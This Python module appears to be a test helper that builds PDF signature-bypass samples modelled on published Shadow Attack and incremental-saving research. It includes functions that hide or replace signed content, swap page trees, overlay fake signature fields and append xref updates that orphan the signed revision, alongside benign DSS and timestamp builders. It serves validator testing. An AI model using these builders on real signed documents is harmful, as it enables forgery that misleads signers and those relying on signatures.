"""Builders for documents that were changed after signing, the way an attacker would.

Each builder takes PDF bytes and returns new bytes; the staging builders run *before*
signing (the victim signs content the attacker prepared), the others after. Modelled on
the attack classes of Mainka, Mladenov, Rohlmann ("Shadow Attacks", NDSS 2021) and
Mladenov et al. ("1 Trillion Dollar Refund", CCS 2019).
"""

from __future__ import annotations

import io
from dataclasses import dataclass

from asn1crypto import keys
from cryptography.hazmat.primitives import serialization
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper
from pyhanko.sign.validation.dss import DocumentSecurityStore

from sealbridge.crypto.algorithms import KeyKind
from sealbridge.crypto.keys import SoftwareKey, generate_key
from sealbridge.pki import profiles
from sealbridge.pki.issuer import CertificateAuthority
from sealbridge.pki.names import enterprise_name

Rect = tuple[float, float, float, float]

# A blue block: visible in any renderer, needs no font.
SHADOW_DRAWING = b"q 0 0 1 rg 60 300 470 300 re f Q"


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _out(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _appearance(
    writer: IncrementalPdfFileWriter, rect: Rect, drawing: bytes
) -> generic.IndirectObject:
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    stream = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [
                    generic.FloatObject(0),
                    generic.FloatObject(0),
                    generic.FloatObject(width),
                    generic.FloatObject(height),
                ]
            ),
            generic.NameObject("/Resources"): _helvetica(),
        },
        stream_data=drawing,
    )
    return writer.add_object(stream)


def _helvetica() -> generic.DictionaryObject:
    font = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Font"),
            generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
            generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
        }
    )
    return generic.DictionaryObject(
        {generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/Helv"): font})}
    )


def _text_drawing(text: str, rect: Rect) -> bytes:
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    return (
        f"q 1 1 1 rg 0 0 {width:g} {height:g} re f 0 g BT /Helv 14 Tf 4 6 Td ({text}) Tj ET Q"
    ).encode()


def _array(rect: Rect) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in rect])


def _add_annotation(
    writer: IncrementalPdfFileWriter, page_index: int, annot: generic.IndirectObject
) -> None:
    page_ref = writer.root["/Pages"]["/Kids"][page_index]
    page = page_ref.get_object()
    annots = page.get("/Annots") or generic.ArrayObject()
    annots = generic.ArrayObject(
        list(annots.iterate() if isinstance(annots, generic.ArrayObject) else [])
    )
    annots.append(annot)
    page[generic.NameObject("/Annots")] = annots
    writer.update_container(page)


def add_text_field(pdf: bytes, name: str, value: str, rect: Rect, page: int = 0) -> bytes:
    """A legitimate fillable field, placed before anyone signs."""
    writer = _writer(pdf)
    page_ref = writer.root["/Pages"]["/Kids"][page]
    field = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/FT"): generic.NameObject("/Tx"),
            generic.NameObject("/T"): generic.TextStringObject(name),
            generic.NameObject("/V"): generic.TextStringObject(value),
            generic.NameObject("/Rect"): _array(rect),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): page_ref,
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        }
    )
    field[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): _appearance(writer, rect, _text_drawing(value, rect))}
    )
    ref = writer.add_object(field)
    _add_annotation(writer, page, ref)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    writer.update_container(
        form["/Fields"] if isinstance(form.raw_get("/Fields"), generic.IndirectObject) else form
    )
    writer.update_container(form)
    return _out(writer)


def hide(pdf: bytes, rect: Rect, page: int = 0) -> bytes:
    """Hide: an opaque annotation over signed content."""
    writer = _writer(pdf)
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    drawing = f"q 1 1 1 rg 0 0 {width:g} {height:g} re f Q".encode()
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Square"),
            generic.NameObject("/Rect"): _array(rect),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): _appearance(writer, rect, drawing)}
            ),
        }
    )
    _add_annotation(writer, page, writer.add_object(annot))
    return _out(writer)


def replace_field(pdf: bytes, name: str, value: str) -> bytes:
    """Replace: a filled-in form field shows a new value (with a matching appearance)."""
    writer = _writer(pdf)
    for ref in writer.root["/AcroForm"]["/Fields"].iterate():
        field = ref.get_object()
        if field.get("/T") != name:
            continue
        rect = tuple(float(v) for v in field["/Rect"])
        field[generic.NameObject("/V")] = generic.TextStringObject(value)
        appearance = _appearance(writer, rect, _text_drawing(value, rect))  # type: ignore[arg-type]
        field[generic.NameObject("/AP")] = generic.DictionaryObject(
            {generic.NameObject("/N"): appearance}
        )
        writer.update_container(field)
        return _out(writer)
    raise KeyError(name)


@dataclass(frozen=True)
class Staged:
    pdf: bytes
    obj: int
    generation: int
    offset: int


def stage_shadow_content(pdf: bytes) -> Staged:
    """Hide-and-replace, step 1: a second definition of page 1's content object, placed in
    the file before signing but listed in no cross-reference section."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    contents = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    number, generation = contents.idnum, contents.generation
    return Staged(
        pdf + b"\n" + _shadow_object(number, generation), number, generation, len(pdf) + 1
    )


def _shadow_object(number: int, generation: int) -> bytes:
    head = f"{number} {generation} obj\n<</Length {len(SHADOW_DRAWING)}>>\nstream\n"
    return head.encode() + SHADOW_DRAWING + b"\nendstream\nendobj\n"


def activate_shadow_content(signed: bytes, staged: Staged) -> bytes:
    """Hide-and-replace, step 2: a revision of nothing but an xref entry pointing the
    content object at the staged definition inside the signed bytes."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    trailer = reader.trailer_view
    root = trailer.raw_get("/Root")
    prev = reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1)
    size = int(trailer["/Size"])
    xref_at = len(signed)
    section = (
        f"xref\n0 1\n0000000000 65535 f \n{staged.obj} 1\n"
        f"{staged.offset:010d} {staged.generation:05d} n \n"
        f"trailer\n<</Size {size}/Root {root.idnum} {root.generation} R/Prev {prev}>>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    )
    return signed + section.encode()


@dataclass(frozen=True)
class StagedPages:
    pdf: bytes
    pages: generic.Reference


def stage_shadow_pages(pdf: bytes) -> StagedPages:
    """Hide-and-replace (whole document), step 1: an unused page tree with other content."""
    writer = _writer(pdf)
    tree_root = writer.root["/Pages"]
    original = tree_root["/Kids"][0].get_object()
    media_box = (
        original.raw_get("/MediaBox") if "/MediaBox" in original else tree_root.raw_get("/MediaBox")
    )
    content = writer.add_object(generic.StreamObject(stream_data=SHADOW_DRAWING))
    pages = writer.allocate_placeholder()
    page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/Parent"): pages,
            generic.NameObject("/MediaBox"): media_box,
            generic.NameObject("/Resources"): generic.DictionaryObject(),
            generic.NameObject("/Contents"): content,
        }
    )
    page_ref = writer.add_object(page)
    tree = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Pages"),
            generic.NameObject("/Kids"): generic.ArrayObject([page_ref]),
            generic.NameObject("/Count"): generic.NumberObject(1),
        }
    )
    writer.add_object(tree, idnum=pages.idnum)
    return StagedPages(_out(writer), pages.reference)


def swap_pages(signed: bytes, staged: StagedPages) -> bytes:
    """Hide-and-replace (whole document), step 2: the catalog points at the staged tree."""
    writer = _writer(signed)
    writer.root[generic.NameObject("/Pages")] = generic.IndirectObject(
        staged.pages.idnum, staged.pages.generation, writer
    )
    writer.update_root()
    return _out(writer)


def sneaky_signature_field(pdf: bytes, rect: Rect, page: int = 0) -> bytes:
    """Sneaky Signature: a signature field nobody signs, whose appearance is an overlay."""
    writer = _writer(pdf)
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    drawing = f"q 1 1 1 rg 0 0 {width:g} {height:g} re f Q".encode()
    widget = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/FT"): generic.NameObject("/Sig"),
            generic.NameObject("/T"): generic.TextStringObject("Overlay"),
            generic.NameObject("/Rect"): _array(rect),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): _appearance(writer, rect, drawing)}
            ),
        }
    )
    ref = writer.add_object(widget)
    _add_annotation(writer, page, ref)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    writer.update_container(form)
    return _out(writer)


def append_objects_without_xref(signed: bytes) -> bytes:
    """Incremental saving attack, variant 1: new objects, no xref, no trailer."""
    return (
        signed
        + b"\n999 0 obj\n<</Length 33>>\nstream\n"
        + SHADOW_DRAWING
        + b"\nendstream\nendobj\n"
    )


def append_update_without_prev(signed: bytes, staged: Staged) -> bytes:
    """Incremental saving attack, variant 2: a complete xref that redefines the content
    object and drops /Prev, so the signed revision is no longer part of the document."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    trailer = reader.trailer_view
    root = trailer.raw_get("/Root")
    size = int(trailer["/Size"])
    body_at = len(signed) + 1
    body = b"\n" + _shadow_object(staged.obj, staged.generation)
    entries = []
    for number in range(1, size):
        location = reader.xrefs[generic.Reference(number, 0)]
        if number == staged.obj:
            location = body_at
        if isinstance(location, int):
            entries.append(f"{location:010d} 00000 n \n")
        else:
            entries.append("0000000000 65535 f \n")
    xref_at = len(signed) + len(body)
    section = (
        f"xref\n0 {size}\n0000000000 65535 f \n{''.join(entries)}"
        f"trailer\n<</Size {size}/Root {root.idnum} {root.generation} R>>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    )
    return signed + body + section.encode()


def add_dss(signed: bytes) -> bytes:
    """Benign: validation data for the last signature, in a DSS update."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    sig = reader.embedded_signatures[-1]
    writer = _writer(signed)
    certs = [c.chosen for c in sig.signed_data["certificates"]]
    DocumentSecurityStore.supply_dss_in_writer(writer, sig.pkcs7_content, certs=certs)
    return _out(writer)


def document_timestamp(signed: bytes, ca: CertificateAuthority) -> bytes:
    """Benign: a document timestamp from an in-process TSA."""
    key = generate_key(KeyKind.RSA_2048)  # pyHanko's in-process TSA signs with RSA only
    assert isinstance(key, SoftwareKey)
    pem = key.private_key_pem(b"tsa")
    private = serialization.load_pem_private_key(pem, b"tsa")
    der = private.private_bytes(
        serialization.Encoding.DER,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    cert = ca.issue(
        enterprise_name("Test TSA", "NTRCN-91350100M000100Y43", "CN"),
        key.public_key_info,
        profiles.TSA,
    )
    stamper = DummyTimeStamper(tsa_cert=cert, tsa_key=keys.PrivateKeyInfo.load(der))
    out = io.BytesIO()
    signers.PdfTimeStamper(stamper).timestamp_pdf(_writer(signed), "sha256", output=out)
    return out.getvalue()
